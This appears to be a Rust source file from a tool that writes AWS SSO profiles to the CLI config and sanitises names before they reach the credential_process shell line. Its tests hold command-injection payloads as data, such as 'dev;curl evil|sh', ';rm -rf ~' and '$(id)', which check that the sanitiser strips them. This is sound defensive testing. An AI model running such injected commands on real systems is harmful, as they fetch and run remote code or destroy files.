//! Profiles from a discovery: one per account and role, named by a template, written
//! through the config engine and marked, so a later prune removes only what Awning
//! made from the same session and never a profile the user wrote.

use std::collections::BTreeSet;

use super::discover::Discovery;
use super::target::PROCESS_STYLE_PREFIX;
use crate::aws_names::{is_account_id, is_role_name};
use crate::config::{ConfigView, Document, EditError, FileKind, SectionName};
use crate::credentials::bridge::bridge_command;

/// Marks a generated profile with the sso-session it was made from.
pub const GENERATED_FROM: &str = "awning_generated_from";
pub const DEFAULT_TEMPLATE: &str = "{account_name}-{role_name}";

/// How the generated profiles get credentials.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ProfileStyle {
    /// Native `sso_session` profiles: every SDK signs in by itself (from the mirror).
    Sso,
    /// `credential_process = awning credential-process --profile NAME`: SDKs ask Awning.
    Process,
}

/// One profile to write.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PlannedProfile {
    pub name: String,
    pub account_id: String,
    pub role_name: String,
}

/// The profiles a discovery calls for, named by `template` (`{account_name}`,
/// `{account_id}`, `{role_name}`, `{session}`). Characters a profile name should not
/// hold become `-`; where two would share a name, the account id is added.
pub fn plan(discovery: &Discovery, template: &str, session: &str) -> Vec<PlannedProfile> {
    let mut planned: Vec<PlannedProfile> = discovery
        .accounts
        .iter()
        .flat_map(|entry| {
            entry.roles.iter().map(move |role| {
                let name = template
                    .replace(
                        "{account_name}",
                        entry.account.name.as_deref().unwrap_or(&entry.account.id),
                    )
                    .replace("{account_id}", &entry.account.id)
                    .replace("{role_name}", role)
                    .replace("{session}", session);
                PlannedProfile {
                    name: clean_name(&name),
                    account_id: entry.account.id.clone(),
                    role_name: role.clone(),
                }
            })
        })
        .collect();
    let mut seen = std::collections::BTreeMap::<String, usize>::new();
    for profile in &planned {
        *seen.entry(profile.name.clone()).or_default() += 1;
    }
    for profile in &mut planned {
        if seen[&profile.name] > 1 {
            profile.name = clean_name(&format!("{}-{}", profile.name, profile.account_id));
        }
    }
    planned
}

/// The edit that writes `planned` for `session` in `style`, and with `prune` removes
/// the profiles an earlier run made from `session` that are no longer planned.
/// Profiles of the same name that Awning did not make are left alone. New profiles are
/// appended in one splice and up-to-date ones are not touched, so thousands stay fast.
pub fn write_profiles(
    document: &mut Document,
    session: &str,
    region: &str,
    planned: &[PlannedProfile],
    style: ProfileStyle,
    prune: bool,
) -> Result<(), EditError> {
    // SDKs run `credential_process` through a shell: what goes into it must be what
    // `plan` makes, whoever built the list.
    if let Some(bad) = planned.iter().find(|profile| !is_plain(profile)) {
        return Err(EditError::InvalidName {
            name: bad.name.clone(),
            reason: "a generated profile holds only letters, digits and `._-`, for a 12-digit account and an IAM role name",
        });
    }
    let view = ConfigView::read(document, &Document::default());
    let ours = |name: &str| {
        view.profile(name)
            .is_some_and(|profile| profile.get(GENERATED_FROM) == Some(session))
    };
    let mut new_sections = Vec::new();
    for profile in planned {
        let keys = keys_of(profile, session, style);
        match view.profile(&profile.name) {
            None => {
                let mut keys = keys;
                // The Rust SDK needs a region; set once, so a region the user chose stays.
                keys.push(("region".to_owned(), region.to_owned()));
                new_sections.push((SectionName::Profile(profile.name.clone()), keys));
            }
            Some(_) if !ours(&profile.name) => {}
            Some(existing) => {
                let stale = stale_keys(style);
                let current = keys
                    .iter()
                    .all(|(key, value)| existing.get(key) == Some(value))
                    && stale.iter().all(|key| existing.get(key).is_none());
                if !current {
                    let section = SectionName::Profile(profile.name.clone());
                    for (key, value) in &keys {
                        document.set(FileKind::Config, &section, key, value)?;
                    }
                    for key in stale.iter().filter(|key| existing.get(key).is_some()) {
                        document.unset(FileKind::Config, &section, key)?;
                    }
                }
            }
        }
    }
    document.append_sections(FileKind::Config, &new_sections)?;
    if prune {
        let wanted: BTreeSet<&str> = planned.iter().map(|p| p.name.as_str()).collect();
        for profile in &view.profiles {
            if ours(&profile.name) && !wanted.contains(profile.name.as_str()) {
                document.remove_section(
                    FileKind::Config,
                    &SectionName::Profile(profile.name.clone()),
                )?;
            }
        }
    }
    Ok(())
}

/// The keys a generated profile of `style` holds.
fn keys_of(profile: &PlannedProfile, session: &str, style: ProfileStyle) -> Vec<(String, String)> {
    let prefix = match style {
        ProfileStyle::Sso => "",
        ProfileStyle::Process => PROCESS_STYLE_PREFIX,
    };
    let mut keys = Vec::new();
    if style == ProfileStyle::Process {
        keys.push((
            "credential_process".to_owned(),
            bridge_command(&profile.name),
        ));
    }
    keys.extend([
        (format!("{prefix}sso_session"), session.to_owned()),
        (
            format!("{prefix}sso_account_id"),
            profile.account_id.clone(),
        ),
        (format!("{prefix}sso_role_name"), profile.role_name.clone()),
        (GENERATED_FROM.to_owned(), session.to_owned()),
    ]);
    keys
}

/// The keys of the other style, which a style change removes.
fn stale_keys(style: ProfileStyle) -> Vec<String> {
    let sso = ["sso_session", "sso_account_id", "sso_role_name"];
    match style {
        ProfileStyle::Sso => sso
            .iter()
            .map(|key| format!("{PROCESS_STYLE_PREFIX}{key}"))
            .chain(["credential_process".to_owned()])
            .collect(),
        ProfileStyle::Process => sso.iter().map(|&key| key.to_owned()).collect(),
    }
}

/// A planned profile of the shape `plan` gives: nothing a shell would act on.
fn is_plain(profile: &PlannedProfile) -> bool {
    !profile.name.is_empty()
        && clean_name(&profile.name) == profile.name
        && is_account_id(&profile.account_id)
        && is_role_name(&profile.role_name)
}

fn clean_name(name: &str) -> String {
    name.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || "._-".contains(c) {
                c
            } else {
                '-'
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sso::discover::AccountRoles;
    use crate::sso::portal::Account;

    fn discovery(accounts: &[(&str, &str, &[&str])]) -> Discovery {
        Discovery {
            fetched_at: std::time::SystemTime::UNIX_EPOCH,
            accounts: accounts
                .iter()
                .map(|(id, name, roles)| AccountRoles {
                    account: Account {
                        id: (*id).to_owned(),
                        name: Some((*name).to_owned()),
                        email: None,
                    },
                    roles: roles.iter().map(|r| (*r).to_owned()).collect(),
                })
                .collect(),
        }
    }

    const USER: &str = "# my profiles\n[profile sandbox-dev-ReadOnly]\nregion = eu-west-1\n\n[profile mine]\nregion = us-east-1 # keep\n";

    fn write_corp(
        document: &mut Document,
        planned: &[PlannedProfile],
        style: ProfileStyle,
        prune: bool,
    ) {
        write_profiles(document, "corp", "us-east-1", planned, style, prune).unwrap();
    }

    fn written(document: &Document, name: &str) -> Option<crate::config::Profile> {
        ConfigView::read(document, &Document::default())
            .profile(name)
            .cloned()
    }

    #[test]
    fn names_follow_the_template_and_stay_unique() {
        let found = discovery(&[
            ("111111111111", "sandbox dev", &["Admin", "ReadOnly"]),
            ("222222222222", "shared", &["ReadOnly"]),
            ("333333333333", "shared", &["ReadOnly"]),
        ]);
        let names: Vec<String> = plan(&found, DEFAULT_TEMPLATE, "corp")
            .into_iter()
            .map(|p| p.name)
            .collect();
        assert_eq!(
            names,
            [
                "sandbox-dev-Admin",
                "sandbox-dev-ReadOnly",
                "shared-ReadOnly-222222222222",
                "shared-ReadOnly-333333333333"
            ]
        );
        let custom = plan(&found, "{session}.{account_id}.{role_name}", "corp");
        assert_eq!(custom[0].name, "corp.111111111111.Admin");
    }

    #[test]
    fn writing_keeps_user_profiles_and_prune_removes_only_what_awning_made() {
        let mut document = Document::parse(USER);
        let first = plan(
            &discovery(&[("111111111111", "sandbox-dev", &["Admin", "ReadOnly"])]),
            DEFAULT_TEMPLATE,
            "corp",
        );
        write_corp(&mut document, &first, ProfileStyle::Sso, false);
        let admin = written(&document, "sandbox-dev-Admin").unwrap();
        assert_eq!(admin.get("sso_session"), Some("corp"));
        assert_eq!(admin.get(GENERATED_FROM), Some("corp"));
        // The user's profile of the same name is not touched.
        assert_eq!(
            written(&document, "sandbox-dev-ReadOnly")
                .unwrap()
                .get("sso_session"),
            None
        );
        assert!(document.to_string().starts_with(USER));

        let second = plan(
            &discovery(&[("111111111111", "sandbox-dev", &["ReadOnly"])]),
            DEFAULT_TEMPLATE,
            "corp",
        );
        write_corp(&mut document, &second, ProfileStyle::Sso, true);
        assert!(written(&document, "sandbox-dev-Admin").is_none());
        assert_eq!(document.to_string(), USER);
    }

    #[test]
    fn the_process_style_asks_awning_and_switching_style_leaves_no_stale_keys() {
        let mut document = Document::default();
        let planned = plan(
            &discovery(&[("111111111111", "dev", &["Admin"])]),
            DEFAULT_TEMPLATE,
            "corp",
        );
        write_corp(&mut document, &planned, ProfileStyle::Process, false);
        let profile = written(&document, "dev-Admin").unwrap();
        assert_eq!(
            profile.get("credential_process"),
            Some("awning credential-process --profile dev-Admin")
        );
        assert_eq!(profile.get("awning_sso_account_id"), Some("111111111111"));
        assert_eq!(profile.get("sso_session"), None);
        write_corp(&mut document, &planned, ProfileStyle::Sso, false);
        let profile = written(&document, "dev-Admin").unwrap();
        assert_eq!(profile.get("sso_session"), Some("corp"));
        assert_eq!(profile.get("credential_process"), None);
        assert_eq!(profile.get("awning_sso_session"), None);
        assert_eq!(profile.get("region"), Some("us-east-1"));
    }

    #[test]
    fn a_hostile_template_or_account_name_never_reaches_the_shell_line() {
        let found = discovery(&[("111111111111", "x$(touch /tmp/p)`id`", &["Admin"])]);
        let planned = plan(&found, "{account_name};rm -rf ~|{role_name}", "corp");
        assert_eq!(planned[0].name, "x--touch--tmp-p--id--rm--rf---Admin");
        let mut document = Document::default();
        write_corp(&mut document, &planned, ProfileStyle::Process, false);
        let line = written(&document, &planned[0].name)
            .unwrap()
            .get("credential_process")
            .map(str::to_owned);
        assert_eq!(
            line.as_deref(),
            Some("awning credential-process --profile x--touch--tmp-p--id--rm--rf---Admin")
        );
    }

    #[test]
    fn a_list_not_made_by_plan_with_shell_characters_is_refused_and_nothing_written() {
        let forged = [
            PlannedProfile {
                name: "dev;curl evil|sh".to_owned(),
                account_id: "111111111111".to_owned(),
                role_name: "Admin".to_owned(),
            },
            PlannedProfile {
                name: "dev-2".to_owned(),
                account_id: "1111$(id)".to_owned(),
                role_name: "Admin".to_owned(),
            },
        ];
        for profile in forged {
            let mut document = Document::parse(USER);
            let refused = write_profiles(
                &mut document,
                "corp",
                "us-east-1",
                &[profile],
                ProfileStyle::Process,
                false,
            );
            assert!(matches!(refused, Err(EditError::InvalidName { .. })));
            assert_eq!(document.to_string(), USER);
        }
    }
}
